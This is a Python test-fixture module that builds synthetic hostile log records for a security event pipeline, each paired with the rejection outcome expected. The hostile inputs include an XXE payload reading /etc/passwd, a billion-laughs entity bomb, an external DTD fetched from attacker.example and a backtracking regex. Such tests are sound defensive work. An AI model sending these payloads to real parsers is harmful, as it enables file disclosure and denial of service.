"""Synthetic hostile records: what an attacker who owns one endpoint can make its shipper send.

Each is built from the layout of a real event (the 4104 template of ``tests/synthetic.py``, a
Sysmon event of the demo log, CrowdStrike FDR JSON field names) with one thing made hostile.
Shared by the unit tests, the hypothesis generators, the long fuzz run and the live-worker test.
"""

from __future__ import annotations

import shutil
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import orjson
import yaml
from hypothesis import strategies as st

from pipeline.engine import Detector
from pipeline.records import Match
from pipeline.rules.model import Rule
from tests import PROJECT_ROOT
from tests.synthetic import WMIEXEC, script_block

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_EVENT = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}'/>"
    "<EventID>{code}</EventID><Version>5</Version><Level>4</Level><Task>3</Task>"
    "<TimeCreated SystemTime='{time}'/><EventRecordID>{record}</EventRecordID>"
    f"<Channel>{SYSMON}</Channel><Computer>{{host}}</Computer>"
    "<Security UserID='S-1-5-18'/></System><EventData>{data}</EventData></Event>"
)
WMIC_NODE = (
    "<Data Name='Image'>C:\\Windows\\System32\\wbem\\WMIC.exe</Data>"
    "<Data Name='OriginalFileName'>wmic.exe</Data>"
    "<Data Name='CommandLine'>wmic /node:10.0.0.5 process call create calc.exe</Data>"
    "<Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data>"
    "<Data Name='User'>CORP\\ann</Data><Data Name='ProcessId'>4242</Data>"
    "<Data Name='ProcessGuid'>{{b1c3f4a2-0000-0000-0000-000000000001}}</Data>"
)


def sysmon(host: str, time: str, code: int = 1, data: str = WMIC_NODE, record: int = 1) -> bytes:
    """Return a Sysmon event (XmlWinEventLog layout) with ``time`` as its SystemTime text."""
    return SYSMON_EVENT.format(code=code, time=time, record=record, host=host, data=data).encode()


# A ParentImage no engine decides in time against SLOW_PATTERN (lookaround, so bounded; fib(40)
# paths to try), and two test rules that run it: one before stats (in the intake), one after (in
# the aggregation). Both route Sysmon 1, as the shipped Remote WMI Command Attempt does.
SLOW_VALUE = "a" * 40 + "b"
SLOW_PATTERN = r"^(a|aa)+(?!a)$"
SLOW_RULES = {
    "5e1c0a3e-0000-4000-8000-00000000000b": (
        "Lookaround before stats",
        f'`sysmon` EventCode=1 | regex ParentImage="{SLOW_PATTERN}" | stats count by dest',
    ),
    "5e1c0a3e-0000-4000-8000-00000000000a": (
        "Lookaround after stats",
        "`sysmon` EventCode=1 | stats count values(ParentImage) as parents by dest"
        f' | eval parent=replace(parents, "{SLOW_PATTERN}", "x")',
    ),
}
BEFORE_STATS, AFTER_STATS = SLOW_RULES


def with_slow_rules(folder: Path) -> Path:
    """Return ``folder`` holding the shipped rules and the two ``SLOW_RULES``."""
    shutil.copytree(PROJECT_ROOT / "rules", folder)
    shipped = yaml.safe_load((folder / "remote_wmi_command_attempt.yml").read_text())
    for rule_id, (name, search) in SLOW_RULES.items():
        spec = {**shipped, "id": rule_id, "name": name, "search": search, "tests": []}
        spec["finding"] = {**shipped["finding"], "title": name, "risk_objects": []}
        (folder / f"{rule_id}.yml").write_text(yaml.safe_dump(spec))
    return folder


def slow_sysmon(host: str, time: str, record: int = 1) -> bytes:
    """Return the WMIC /node Sysmon 1 event of ``sysmon`` with ``SLOW_VALUE`` as ParentImage."""
    data = WMIC_NODE.replace("C:\\Windows\\System32\\cmd.exe", SLOW_VALUE)
    assert data != WMIC_NODE
    return sysmon(host, time, 1, data, record)


def after_stats_match(rules: Mapping[str, Rule], host: str, parent: str = SLOW_VALUE) -> Match:
    """Return the match of the rule ``AFTER_STATS`` (among ``rules``) in ``slow_sysmon(host)``
    with ``parent`` as its ParentImage."""
    event = slow_sysmon(host, "2024-03-05T11:02:44Z").replace(SLOW_VALUE.encode(), parent.encode())
    matches = Detector(tuple(rules.values())).detect(event).matches
    (match,) = (match for match in matches if match.rule_id == AFTER_STATS)
    return match


# The size cap the tests give the detector: small enough to send records over it through a
# broker's default 1 MB message limit.
TEST_MAX_EVENT_BYTES = 65_536


def oversize(host: str, time: str, code: int, size: int) -> bytes:
    """Return a Sysmon event of ``size`` bytes: the WMIC event padded with a long Hashes field."""
    bare = sysmon(host, time, code, WMIC_NODE + "<Data Name='Hashes'></Data>")
    return bare.replace(b"</Data></EventData>", b"A" * (size - len(bare)) + b"</Data></EventData>")


def crowdstrike(fields: list[tuple[str, object]]) -> bytes:
    """Return CrowdStrike FDR JSON with ``fields`` in order (duplicate keys kept)."""
    return b"{" + b",".join(orjson.dumps(k) + b":" + orjson.dumps(v) for k, v in fields) + b"}"


ROLLUP = [
    ("event_simpleName", "ProcessRollup2"),
    ("timestamp", "1709640000000"),
    ("ComputerName", "cs-host"),
    ("ImageFileName", "\\Device\\HarddiskVolume3\\Windows\\System32\\wbem\\WMIC.exe"),
    ("CommandLine", "wmic /node:10.0.0.5 process call create calc.exe"),
    ("UserName", "ann"),
]


def nested_json(depth: int) -> bytes:
    """Return a CrowdStrike record with one field nested ``depth`` objects deep."""
    return (
        b'{"event_simpleName":"ProcessRollup2","timestamp":"1709640000000","x":'
        + b'{"a":' * depth
        + b"1"
        + b"}" * depth
        + b"}"
    )


def attribute_flood(count: int) -> bytes:
    """Return a routed Sysmon 1 event whose TimeCreated carries ``count`` extra attributes."""
    extra = " ".join(f"a{n}='x'" for n in range(count))
    return sysmon("flood", f"2024-03-05T11:00:00Z' {extra} b='")


@dataclass(frozen=True)
class Hostile:
    """One hostile record and what must become of it."""

    name: str
    topic: str  # the raw topic's base name
    payload: bytes
    outcome: str  # a dead-letter reason, "dropped" (screened out), or "clamped" (matched, flagged)


def suite(now: float) -> list[Hostile]:
    """Return the hostile records the live-worker test sends, one after another."""
    ps, cs = "windows.powershell", "crowdstrike.events"
    far_future = "9999-12-31T23:59:59-14:00"
    return [
        Hostile("json nested 1,000 deep", cs, nested_json(1000), "too_complex"),
        Hostile(
            "time past year 9999",
            ps,
            script_block("h-y10k", now, WMIEXEC, 1).replace(_system_time(now), far_future.encode()),
            "clamped",
        ),
        Hostile(
            "20-digit epoch time",
            "windows.sysmon",
            sysmon("h-digits", "12345678901234567890"),
            "clamped",
        ),
        Hostile("5,000 attributes", "windows.sysmon", attribute_flood(5_000), "too_complex"),
        Hostile(
            "unrouted Sysmon 3 stamped 2099",
            "windows.sysmon",
            sysmon("h-2099", "2099-01-01T00:00:00Z", code=3, data=""),
            "dropped",
        ),
        Hostile(
            "duplicate event_simpleName keys",
            cs,
            crowdstrike([("event_simpleName", "DnsRequest"), *ROLLUP]),
            "matched",
        ),
        Hostile(
            "XXE",
            ps,
            b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b"<Event>&x;</Event>",
            "xml_entities",
        ),
        Hostile(
            "billion laughs",
            ps,
            b'<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><Event>&b;</Event>',
            "xml_entities",
        ),
        Hostile(
            "external DTD, no entity",
            "windows.sysmon",
            b'<!DOCTYPE Event SYSTEM "http://attacker.example/x.dtd">'
            + sysmon("h-dtd", "2024-03-05T11:02:44Z"),
            "xml_entities",
        ),
        Hostile("XML nested 5,000 deep", ps, b"<a>" * 5_000 + b"</a>" * 5_000, "not_xml"),
        Hostile("invalid UTF-8", ps, b"<Event>\xff\xfe\xfa</Event>", "bad_encoding"),
        Hostile(
            "UTF-16",
            ps,
            script_block("h-utf16", now, WMIEXEC, 2).decode().encode("utf-16"),
            "bad_encoding",
        ),
        Hostile(
            "NaN time",
            ps,
            script_block("h-nan", now, WMIEXEC, 3).replace(_system_time(now), b"NaN"),
            "bad_timestamp",
        ),
        Hostile(
            "negative time",
            "windows.sysmon",
            sysmon("h-negative", "-5"),
            "bad_timestamp",
        ),
        Hostile("control characters", ps, b"\x00\x01\x02\x1b[2J", "not_xml"),
        Hostile(
            "WMIC event one byte over the size cap",
            "windows.sysmon",
            oversize("h-big", "2024-03-05T11:02:44Z", 1, TEST_MAX_EVENT_BYTES + 1),
            "too_large",
        ),
        Hostile(
            "unrouted Sysmon 3 over the size cap",
            "windows.sysmon",
            oversize("h-big3", "2024-03-05T11:02:44Z", 3, 2 * TEST_MAX_EVENT_BYTES),
            "too_large",
        ),
    ]


def _system_time(seconds: float) -> bytes:
    """Return the SystemTime text ``script_block`` writes for ``seconds``."""
    marker = b"SystemTime='"
    block = script_block("x", seconds, "", 0)
    start = block.index(marker) + len(marker)
    return block[start : block.index(b"'", start)]


# Structure-aware generators for the property tests and the long fuzz run.
TIMES = st.one_of(
    st.sampled_from(
        [
            "9999-12-31T23:59:59-14:00",
            "0001-01-01T00:00:00+14:00",
            "2099-01-01T00:00:00Z",
            "1601-01-01T00:00:00Z",
            "NaN",
            "-1",
            "99999999999999999999",
            "1" * 5000,
            "\uff12\uff10\uff12\uff14-01-01",  # fullwidth digits
            "2024-01-01T00:00:00Z",
        ]
    ),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.datetimes(timezones=st.timezones()).map(lambda d: d.isoformat()),
)
NESTED_JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**63 - 1), st.text(max_size=8)),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=4), children, max_size=3)
    ),
    max_leaves=40,
).map(
    lambda value: orjson.dumps({"event_simpleName": "ProcessRollup2", "timestamp": "1", "x": value})
)
DEEP_JSON = st.integers(min_value=1, max_value=1100).map(nested_json)
DEEP_LISTS = st.integers(min_value=1, max_value=1100).map(
    lambda n: (
        b'{"event_simpleName":"ProcessRollup2","timestamp":"1","x":' + b"[" * n + b"]" * n + b"}"
    )
)
ATTRIBUTE_FLOODS = st.integers(min_value=0, max_value=400).map(attribute_flood)
EXTREME_TIMES = st.builds(
    lambda time, code: sysmon("h", time.replace("'", ""), code=code), TIMES, st.sampled_from([1, 3])
)
IDENTITY_KEYS = st.sampled_from(
    ["event_simpleName", "Channel", "EventID", "winlog", "Message", "x"]
)
IDENTITY_VALUES = st.sampled_from(
    [
        "ProcessRollup2",
        "DnsRequest",
        SYSMON,
        "Security",
        "1",
        "3",
        "4688",
        1,
        4688,
        {"channel": SYSMON},
        {"event_simpleName": "ProcessRollup2"},
        {"event_data": {"event_simpleName": "ProcessRollup2"}},
    ]
)
DUPLICATE_KEYS = st.lists(st.tuples(IDENTITY_KEYS, IDENTITY_VALUES), max_size=6).map(
    lambda extra: crowdstrike([*extra, *ROLLUP[1:], *extra])
)
DECOYS = st.sampled_from(
    [
        "<Data Name='Channel'>Security</Data>",
        "<Data Name='EventID'>3</Data>",
        "<Data Name='event_simpleName'>ProcessRollup2</Data>",
        "<Data Name='Chann&#101;l'>Security</Data>",
        "<!-- <Channel>Security</Channel> -->",
        "<![CDATA[<EventID>3</EventID>]]>",
        "<Data Name='x'><Channel>Security</Channel></Data>",
        "",
    ]
)
XML_DECOYS = st.builds(
    lambda decoy, code, channel: sysmon(
        "h", "2024-03-05T11:00:00Z", code=code, data=WMIC_NODE + decoy
    ).replace(SYSMON.encode(), channel.encode()),
    DECOYS,
    st.sampled_from([1, 3, 4688]),
    st.sampled_from([SYSMON, "Security", " " + SYSMON]),
)
HOSTILE = st.one_of(
    NESTED_JSON, DEEP_JSON, DEEP_LISTS, ATTRIBUTE_FLOODS, EXTREME_TIMES, DUPLICATE_KEYS, XML_DECOYS
)
